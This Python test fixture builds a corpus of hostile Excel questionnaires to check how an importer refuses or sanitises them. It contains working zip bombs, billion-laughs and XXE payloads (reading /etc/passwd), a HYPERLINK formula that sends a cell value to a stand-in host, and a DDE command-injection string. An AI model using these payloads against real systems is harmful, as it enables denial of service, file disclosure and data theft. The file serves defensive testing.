"""A corpus of hostile questionnaires: what a State's spreadsheet, a broken mailer or an attacker
could send back, each written into a folder from one real exported questionnaire.

``write_corpus`` returns one ``Case`` per file with what the import must do: refuse it (exit 2,
one line), import it with rows rejected (exit 1), or import it (exit 0), and which answers must
then be stored on which code. ``tests/test_hostile_questionnaires.py`` runs every case through the
command line.
"""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.worksheet.formula import ArrayFormula

from assessor.importers.xlsx_file import CFB_MAGIC
from tests.questionnaire_helpers import FOLLOW_UP, ID, STATUS

REFUSED, ROWS_REJECTED, IMPORTED = "refused", "rows rejected", "imported"
#: What the command's exit status is for each outcome (README: "Exit status").
EXIT = {IMPORTED: 0, ROWS_REJECTED: 1, REFUSED: 2}
#: Sizes of the expanding cases: the real bomb inflates to gigabytes from a few megabytes.
BOMB_BYTES = 2 * 1024**3
LONG_CELL = 40_000
HUGE_CELL = 1_000_000
QUESTIONNAIRE_PART = "xl/worksheets/sheet2.xml"


@dataclass(frozen=True)
class Case:
    """One hostile file and what importing it must do."""

    name: str
    path: Path
    expect: str
    #: Words the refusal's one line, or the report's rejected rows, must hold.
    message: str = ""
    #: Code → follow-up text that must be current after the import (and nothing else changes).
    answers: Mapping[str, str] = field(default_factory=dict)
    #: Codes the report must name as rejected.
    rejected: tuple[str, ...] = ()


class Corpus:
    """Writes the cases from one blank questionnaire, knowing each code's row and hidden ID."""

    def __init__(self, blank: Path, out: Path) -> None:
        self.blank, self.out = blank, out
        ws = openpyxl.load_workbook(blank)["Questionnaire"]
        self.rows: dict[str, int] = {}
        self.uids: dict[str, str] = {}
        for row in range(2, ws.max_row + 1):
            code = (ws[f"B{row}"].value or "").split(",")[0].strip()
            self.rows[code] = row
            self.uids[code] = ws[f"{ID}{row}"].value
        self.codes = list(self.rows)
        self.cases: list[Case] = []

    # -- writing files ---------------------------------------------------------------------------

    def path(self, name: str, suffix: str = ".xlsx") -> Path:
        return self.out / f"{name}{suffix}"

    def edited(self, name: str, change: Callable[[Any], None], suffix: str = ".xlsx") -> Path:
        """The blank questionnaire changed through openpyxl, as a spreadsheet would save it."""
        wb = openpyxl.load_workbook(self.blank)
        change(wb)
        dest = self.path(name, suffix)
        wb.save(dest)
        return dest

    def filled(self, name: str, cells: Mapping[str, Any], suffix: str = ".xlsx") -> Path:
        """The blank questionnaire with ``cells`` ("G:II-6" or "G5" → value) written."""

        def write(wb: Any) -> None:
            ws = wb["Questionnaire"]
            for ref, value in cells.items():
                if ":" in ref:
                    column, code = ref.split(":", 1)
                    ref = f"{column}{self.rows[code]}"
                ws[ref] = value

        return self.edited(name, write, suffix)

    def xml_edited(
        self,
        name: str,
        src: Path,
        change: Callable[[dict[str, bytes]], None],
        suffix: str = ".xlsx",
    ) -> Path:
        """A copy of ``src`` with its parts rewritten by ``change`` (what openpyxl won't write)."""
        parts = read_parts(src)
        change(parts)
        dest = self.path(name, suffix)
        write_parts(dest, parts)
        return dest

    def cell(self, column: str, code: str) -> str:
        return f"{column}{self.rows[code]}"

    def add(self, name: str, path: Path, expect: str, message: str = "", **kw: Any) -> None:
        self.cases.append(Case(name, path, expect, message, **kw))


def read_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def write_parts(path: Path, parts: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def set_cell(xml: bytes, ref: str, cell: str) -> bytes:
    """The sheet XML with cell ``ref`` replaced by ``cell`` (its whole ``<c>`` element)."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"(?: [^>]*?)?(?:/>|>.*?</c>)', re.S)
    new, count = pattern.subn(cell.encode(), xml, count=1)
    assert count == 1, ref
    return new


def inline(ref: str, text: str) -> str:
    """An inline-string cell as the XML holds it (``text`` already escaped for XML)."""
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def shared_strings(parts: dict[str, bytes], part: str = QUESTIONNAIRE_PART) -> None:
    """Move a sheet's inline strings to a shared-strings table, as Excel itself saves them."""
    strings: list[bytes] = []

    def to_shared(m: re.Match[bytes]) -> bytes:
        strings.append(m.group(3))
        return b"<c " + m.group(1) + b't="s"' + m.group(2) + b"><v>%d</v></c>" % (len(strings) - 1)

    parts[part] = re.sub(
        rb'<c ([^>]*?)t="inlineStr"([^>]*)><is>(.*?)</is></c>', to_shared, parts[part], flags=re.S
    )
    sst = b"".join(b"<si>" + s + b"</si>" for s in strings)
    parts["xl/sharedStrings.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
        % (len(strings), len(strings))
        + sst
        + b"</sst>"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml" Id="rIdStrings"/>'
        b"</Relationships>",
    )


# -- zips written by hand: bombs and liars ---------------------------------------------------------


@dataclass(frozen=True)
class RawMember:
    name: str
    deflated: bytes
    crc: int
    size: int
    #: Where the local header is, when several entries share one (an overlapping bomb).
    shared_with: str = ""


def deflated(data: bytes) -> RawMember:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return RawMember("", co.compress(data) + co.flush(), zlib.crc32(data), len(data))


def raw_zip(path: Path, members: list[RawMember]) -> None:
    """Write a zip exactly as told: sizes and CRCs may lie, entries may share their data."""
    body = bytearray()
    offsets: dict[str, int] = {}
    central = bytearray()
    for m in members:
        name = m.name.encode()
        if m.shared_with:
            offset = offsets[m.shared_with]
        else:
            offset = len(body)
            offsets[m.name] = offset
            body += struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, m.crc, len(m.deflated), m.size,
                len(name), 0,
            )  # fmt: skip
            body += name + m.deflated
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, m.crc, len(m.deflated),
            m.size, len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    eocd = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(body), 0
    )
    path.write_bytes(bytes(body + central + eocd))


def zeros_member(name: str, size: int, chunk: int = 1024 * 1024) -> RawMember:
    """A member inflating to ``size`` zero bytes, deflated in a few megabytes, built quickly.

    Full-flush blocks of one chunk are independent, so one compressed chunk is repeated.
    """
    assert size % chunk == 0
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(bytes(chunk)) + co.flush(zlib.Z_FULL_FLUSH)
    final = co.flush()
    crc = 0
    zero = bytes(chunk)
    for _ in range(size // chunk):
        crc = zlib.crc32(zero, crc)
    return RawMember(name, block * (size // chunk) + final, crc, size)


def workbook_members(src: Path, without: str = "") -> list[RawMember]:
    """The parts of a real workbook as raw members (all but ``without``)."""
    out = []
    for name, data in read_parts(src).items():
        if name != without:
            m = deflated(data)
            out.append(RawMember(name, m.deflated, m.crc, m.size))
    return out


# -- the corpus --------------------------------------------------------------------------------


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def write_corpus(blank: Path, out: Path) -> list[Case]:
    """Write every hostile case into ``out``; ``blank`` is a questionnaire as exported."""
    c = Corpus(blank, out)
    first, second, last = c.codes[0], c.codes[1], c.codes[-1]  # II-6, II-8, the last row
    _refused_files(c)
    _refused_workbooks(c)
    _rejected_rows(c, first, second)
    _imported(c, first, second, last)
    return c.cases


def _refused_files(c: Corpus) -> None:
    """Files that are not a questionnaire at all, or that must not be opened."""
    empty = c.path("empty")
    empty.write_bytes(b"")
    c.add("empty file", empty, REFUSED, "the file is empty")

    csv = c.path("csv-renamed")
    csv.write_text("ID,Code,Follow-up\n,II-6,We adopted a law.\n", "utf-8")
    c.add("CSV renamed to .xlsx", csv, REFUSED, "not an Excel workbook")

    html = c.path("html-renamed")
    html.write_text("<html><body><table><tr><td>II-6</td></tr></table></body></html>", "utf-8")
    c.add("HTML table renamed to .xlsx", html, REFUSED, "not an Excel workbook")

    xls = c.path("xls-renamed")
    xls.write_bytes(CFB_MAGIC + bytes(504) + "Workbook".encode("utf-16-le") + bytes(1024))
    c.add(".xls renamed to .xlsx", xls, REFUSED, "old Excel 97–2003 (.xls)")

    protected = c.path("password")
    protected.write_bytes(
        CFB_MAGIC + bytes(504) + "EncryptionInfo".encode("utf-16-le") + bytes(2048)
    )
    c.add("password-protected workbook (CFB)", protected, REFUSED, "password-protected")

    ods = c.path("ods-renamed")
    with zipfile.ZipFile(ods, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
        z.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    c.add(".ods renamed to .xlsx", ods, REFUSED, "OpenDocument spreadsheet (.ods)")

    plain = c.path("zip")
    with zipfile.ZipFile(plain, "w") as z:
        z.writestr("readme.txt", "hello")
    c.add("a zip that is no workbook", plain, REFUSED, "zip file, not an Excel workbook")

    data = c.blank.read_bytes()
    for label, cut in (("the first 100 bytes", 100), ("half", len(data) // 2), ("no end", -22)):
        path = c.path(f"truncated-{cut}")
        path.write_bytes(data[:cut])
        c.add(f"truncated zip ({label})", path, REFUSED, "damaged")

    bomb = c.path("bomb")
    raw_zip(bomb, [*workbook_members(c.blank, QUESTIONNAIRE_PART),
                   zeros_member(QUESTIONNAIRE_PART, BOMB_BYTES)])  # fmt: skip
    c.add("zip bomb (the sheet inflates to 2 GiB)", bomb, REFUSED, "refused unopened")

    overlap = c.path("bomb-overlapping")
    base = zeros_member("xl/media/a.bin", 8 * 1024 * 1024)
    copies = [
        RawMember(f"xl/media/{i}.bin", base.deflated, base.crc, base.size, base.name)
        for i in range(64)
    ]
    raw_zip(overlap, [*workbook_members(c.blank), base, *copies])
    c.add("overlapping zip bomb (one block, 65 entries)", overlap, REFUSED, "refused unopened")

    liar = c.path("bomb-lying")
    sheet = zeros_member(QUESTIONNAIRE_PART, 32 * 1024 * 1024)
    members = workbook_members(c.blank, QUESTIONNAIRE_PART)
    raw_zip(liar, [*members, RawMember(sheet.name, sheet.deflated, sheet.crc, 5000)])
    c.add("zip lying about its sizes", liar, REFUSED, "damaged")

    many = c.path("many-parts")
    with zipfile.ZipFile(many, "w") as z:
        for name, part in read_parts(c.blank).items():
            z.writestr(name, part)
        for i in range(3000):
            z.writestr(f"xl/media/{i}.txt", "")
    c.add("3,000 parts", many, REFUSED, "parts, far more than a questionnaire")


def _refused_workbooks(c: Corpus) -> None:
    """Workbooks that are not (or no longer) an Assessor questionnaire, or attack the parser."""

    def rename(wb: Any) -> None:
        wb["Questionnaire"].title = "Answers"

    c.add("sheet renamed", c.edited("renamed", rename), REFUSED, "not an Assessor questionnaire")

    def delete(name: str) -> Callable[[Any], None]:
        return lambda wb: wb.remove(wb[name])

    deleted = c.edited("deleted", delete("Questionnaire"))
    c.add("Questionnaire sheet deleted", deleted, REFUSED, "not an Assessor questionnaire")
    no_meta = c.edited("no-meta", delete("_meta"))
    c.add("hidden _meta sheet deleted", no_meta, REFUSED, "not an Assessor questionnaire")

    def insert_column(wb: Any) -> None:
        wb["Questionnaire"].insert_cols(2)

    moved = c.edited("column-inserted", insert_column)
    c.add("a column inserted (columns moved)", moved, REFUSED, "columns of the Questionnaire")

    def swap_columns(wb: Any) -> None:
        ws = wb["Questionnaire"]
        for row in range(1, ws.max_row + 1):
            f, g = ws[f"F{row}"], ws[f"{FOLLOW_UP}{row}"]
            f.value, g.value = g.value, f.value

    swapped = c.edited("columns-swapped", swap_columns)
    c.add("two columns swapped", swapped, REFUSED, "columns of the Questionnaire")

    def no_header(wb: Any) -> None:
        wb["Questionnaire"].delete_rows(1)

    headless = c.edited("no-header", no_header)
    c.add("header row deleted", headless, REFUSED, "columns of the Questionnaire")

    def meta(key: str, value: str) -> Callable[[Any], None]:
        def change(wb: Any) -> None:
            m = wb["_meta"]
            for row in range(1, m.max_row + 1):
                if m.cell(row, 1).value == key:
                    m.cell(row, 2).value = value

        return change

    version = c.edited("version", meta("template_version", "0"))
    c.add("another template version", version, REFUSED, "template version 0")
    narnia = c.edited("narnia", meta("party", "Narnia"))
    c.add("a Party not in the database", narnia, REFUSED, "Narnia, which has no factsheet")

    answered = c.filled("answered", {c.cell(FOLLOW_UP, c.codes[0]): "PLACEHOLDER"})

    def doctype(part: str, doc: str, entity: str = "") -> Callable[[dict[str, bytes]], None]:
        def change(parts: dict[str, bytes]) -> None:
            xml = parts[part]
            if xml.startswith(b"<?xml"):
                end = xml.index(b"?>") + 2
                xml = xml[:end] + doc.encode() + xml[end:]
            else:
                xml = doc.encode() + xml
            if entity:
                xml = xml.replace(b">PLACEHOLDER<", f">{entity}<".encode())
            parts[part] = xml

        return change

    targets = (
        ("in the sheet", QUESTIONNAIRE_PART),
        ("in workbook.xml", "xl/workbook.xml"),
        ("in [Content_Types].xml", "[Content_Types].xml"),
    )
    for label, part in targets:
        slug = re.sub(r"\W+", "-", label).strip("-")
        entity = "&lol9;" if part == QUESTIONNAIRE_PART else ""
        path = c.xml_edited(f"laughs-{slug}", answered, doctype(part, LAUGHS, entity))
        c.add(f"billion laughs {label}", path, REFUSED, "declares a DOCTYPE")
    xxe = c.xml_edited("xxe", answered, doctype(QUESTIONNAIRE_PART, XXE, "&xxe;"))
    c.add("external entity (XXE) in the sheet", xxe, REFUSED, "declares a DOCTYPE")
    long_prolog = "<!--" + "x" * 70_000 + "-->" + LAUGHS
    hidden = c.xml_edited(
        "laughs-after-comment", answered, doctype(QUESTIONNAIRE_PART, long_prolog)
    )
    c.add("billion laughs behind a 70 kB comment", hidden, REFUSED, "refused unopened")

    def corrupt(parts: dict[str, bytes]) -> None:
        parts[QUESTIONNAIRE_PART] = parts[QUESTIONNAIRE_PART].replace(
            b"<sheetData>", b"<sheetData><row><c r="
        )

    broken = c.xml_edited("bad-xml", answered, corrupt)
    c.add("malformed sheet XML", broken, REFUSED, "damaged")


def _rejected_rows(c: Corpus, first: str, second: str) -> None:
    """Files whose rows cannot all be taken: the others are, on their own code."""
    good = c.codes[5]
    ok = {c.cell(FOLLOW_UP, good): f"Answer to {good}."}
    ok_answer = {good: f"Answer to {good}."}
    uid1, uid2 = c.uids[first], c.uids[second]
    swapped = c.filled(
        "ids-swapped",
        {
            c.cell(ID, first): uid2,
            c.cell(ID, second): uid1,
            c.cell(FOLLOW_UP, first): f"Typed on the row of {first}.",
            **ok,
        },
    )
    c.add(
        "hidden ids of two rows swapped", swapped, ROWS_REJECTED,
        f"its hidden ID is that of {second}, but the row shows {first}",
        answers=ok_answer, rejected=(first, second),
    )  # fmt: skip
    emptied = c.filled(
        "id-emptied", {c.cell(ID, first): None, c.cell(FOLLOW_UP, first): "No ID.", **ok}
    )
    c.add("a hidden id emptied", emptied, ROWS_REJECTED, "no hidden ID",
          answers=ok_answer, rejected=(first,))  # fmt: skip
    changed = c.filled(
        "id-changed", {c.cell(ID, first): "f" * 32, c.cell(FOLLOW_UP, first): "Other ID.", **ok}
    )
    c.add("a hidden id changed", changed, ROWS_REJECTED, "unknown hidden ID",
          answers=ok_answer, rejected=(first,))  # fmt: skip
    garbage = c.filled(
        "id-garbage", {c.cell(ID, first): "=A3", c.cell(FOLLOW_UP, first): "Formula ID.", **ok}
    )
    c.add("a hidden id replaced by a formula", garbage, ROWS_REJECTED, "is not one Assessor writes",
          answers=ok_answer, rejected=(first,))  # fmt: skip
    duplicated = c.filled(
        "id-duplicated",
        {c.cell(ID, second): uid1, c.cell(FOLLOW_UP, first): "A.", c.cell(FOLLOW_UP, second): "B."}
        | ok,
    )
    c.add("a hidden id duplicated", duplicated, ROWS_REJECTED, "appears again in row",
          answers=ok_answer, rejected=(first, second))  # fmt: skip

    def add_row(wb: Any) -> None:
        ws = wb["Questionnaire"]
        row = ws.max_row + 1
        ws[f"B{row}"] = "II-1"
        ws[f"{FOLLOW_UP}{row}"] = "A follow-up the State added by hand."
        ws[c.cell(FOLLOW_UP, good)] = f"Answer to {good}."

    added = c.edited("row-added", add_row)
    c.add("a row added by hand (code II-1, no id)", added, ROWS_REJECTED, "no hidden ID",
          answers=ok_answer, rejected=("II-1",))  # fmt: skip

    answered = c.filled("placeholder", {c.cell(FOLLOW_UP, first): "PLACEHOLDER", **ok})
    for error in ("#REF!", "#N/A", "#DIV/0!", "#VALUE!"):
        ref = c.cell(FOLLOW_UP, first)

        def error_cell(parts: dict[str, bytes], ref: str = ref, error: str = error) -> None:
            parts[QUESTIONNAIRE_PART] = set_cell(
                parts[QUESTIONNAIRE_PART], ref, f'<c r="{ref}" t="e"><v>{error}</v></c>'
            )

        path = c.xml_edited(f"error-{error.strip('#!').replace('/', '')}", answered, error_cell)
        c.add(f"error cell {error}", path, ROWS_REJECTED, f"holds the error value {error}",
              answers=ok_answer, rejected=(first,))  # fmt: skip

    for size in (LONG_CELL, HUGE_CELL):

        def long_cell(parts: dict[str, bytes], size: int = size) -> None:
            parts[QUESTIONNAIRE_PART] = parts[QUESTIONNAIRE_PART].replace(
                b">PLACEHOLDER<", b">" + b"x" * size + b"<"
            )

        path = c.xml_edited(f"long-{size}", answered, long_cell)
        c.add(f"a {size:,}-character cell", path, ROWS_REJECTED, f"{size:,} characters",
              answers=ok_answer, rejected=(first,))  # fmt: skip

    status = c.filled(
        "bad-status",
        {c.cell(FOLLOW_UP, first): "Done.", c.cell(STATUS, first): "maybe", **ok},
    )
    c.add("a status not in the list", status, ROWS_REJECTED, "is not a status",
          answers=ok_answer, rejected=(first,))  # fmt: skip


def _imported(c: Corpus, first: str, second: str, last: str) -> None:
    """Files that look odd but are questionnaires: every answer arrives on its code."""
    deep = c.codes[-4:]  # rows far below a stale dimension
    answers = {code: f"Answer to {code}." for code in (first, *deep)}
    filled = c.filled("filled", {c.cell(FOLLOW_UP, code): text for code, text in answers.items()})

    def dimension(ref: str) -> Callable[[dict[str, bytes]], None]:
        def change(parts: dict[str, bytes]) -> None:
            xml, n = re.subn(rb'<dimension ref="[^"]*"/>', ref.encode(), parts[QUESTIONNAIRE_PART])
            assert n == 1
            parts[QUESTIONNAIRE_PART] = xml

        return change

    stale = c.xml_edited("stale-dimension", filled, dimension('<dimension ref="A1:I10"/>'))
    c.add("a stale <dimension> (A1:I10)", stale, IMPORTED, answers=answers)
    tiny = c.xml_edited("one-cell-dimension", filled, dimension('<dimension ref="A1"/>'))
    c.add("a one-cell <dimension> (A1)", tiny, IMPORTED, answers=answers)
    none = c.xml_edited("no-dimension", filled, dimension(""))
    c.add("no <dimension> at all", none, IMPORTED, answers=answers)
    shared = c.xml_edited("shared-strings", filled, shared_strings)
    c.add("strings in a shared table (as Excel saves)", shared, IMPORTED, answers=answers)

    def macro_enabled(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        parts["xl/vbaProject.bin"] = CFB_MAGIC + bytes(1024)

    xlsm = c.xml_edited("macro", filled, macro_enabled, suffix=".xlsm")
    c.add("macro-enabled workbook (.xlsm)", xlsm, IMPORTED, answers=answers)
    xlsm_named = c.xml_edited("macro-named-xlsx", filled, macro_enabled)
    c.add("macro-enabled content type named .xlsx", xlsm_named, IMPORTED, answers=answers)
    for suffix in (".txt", ".zip", ""):
        path = c.path(f"renamed{suffix or '-no-suffix'}", suffix)
        path.write_bytes(filled.read_bytes())
        c.add(f"a questionnaire named {suffix or 'without a suffix'}", path, IMPORTED,
              answers=answers)  # fmt: skip

    formulas = {
        first: "=1+1",
        second: '=HYPERLINK("http://example.invalid/?leak="&B2,"click")',
        c.codes[3]: "=cmd|' /C calc'!A0",
        c.codes[4]: "+SUM(1,2)",
        c.codes[5]: "@SUM(1)",
    }
    path = c.filled("formulas", {c.cell(FOLLOW_UP, code): t for code, t in formulas.items()})
    c.add("formulas in answer cells (taken as text)", path, IMPORTED, answers=formulas)

    array = c.filled("array-formula", {c.cell(FOLLOW_UP, first): ArrayFormula("G2", "=SUM(1,2)")})
    c.add("an array formula (taken as text)", array, IMPORTED, answers={first: "=SUM(1,2)"})

    typed = c.filled(
        "typed-values",
        {c.cell(FOLLOW_UP, first): 42, c.cell(FOLLOW_UP, second): datetime(2024, 5, 1, 9, 30)},
    )
    c.add("a number and a date as answers", typed, IMPORTED,
          answers={first: "42", second: "2024-05-01T09:30:00"})  # fmt: skip

    placeholders = c.filled(
        "escapes-base",
        {c.cell(FOLLOW_UP, first): "PLACEHOLDER1", c.cell(FOLLOW_UP, second): "PLACEHOLDER2"},
    )

    def escapes(parts: dict[str, bytes]) -> None:
        xml = parts[QUESTIONNAIRE_PART]
        xml = xml.replace(
            b">PLACEHOLDER1<",
            b">Law_x0001_ adopted_xD800_ in 2024_x000D__x000A_(_x005F_x0041_ kept) _xD83D__xDE00_<",
        )
        parts[QUESTIONNAIRE_PART] = xml.replace(
            b">PLACEHOLDER2<", "> Zero\u200bwidth\u202e and\u00adsoft\ufeff <".encode()
        )

    escaped = {
        first: "Law adopted\ufffd in 2024\n(_x0041_ kept) \U0001f600",
        second: "Zerowidth andsoft",
    }
    path = c.xml_edited("escapes", placeholders, escapes)
    c.add("Excel escapes (_x0001_, _xD800_) and invisible characters", path, IMPORTED,
          answers=escaped)  # fmt: skip

    def escapes_shared(parts: dict[str, bytes]) -> None:
        escapes(parts)
        shared_strings(parts)

    path = c.xml_edited("escapes-shared", placeholders, escapes_shared)
    c.add("Excel escapes in shared strings", path, IMPORTED, answers=escaped)

    near = "y" * 30_000
    path = c.filled("near-limit", {c.cell(FOLLOW_UP, last): near})
    c.add("a 30,000-character answer (under Excel's limit)", path, IMPORTED, answers={last: near})
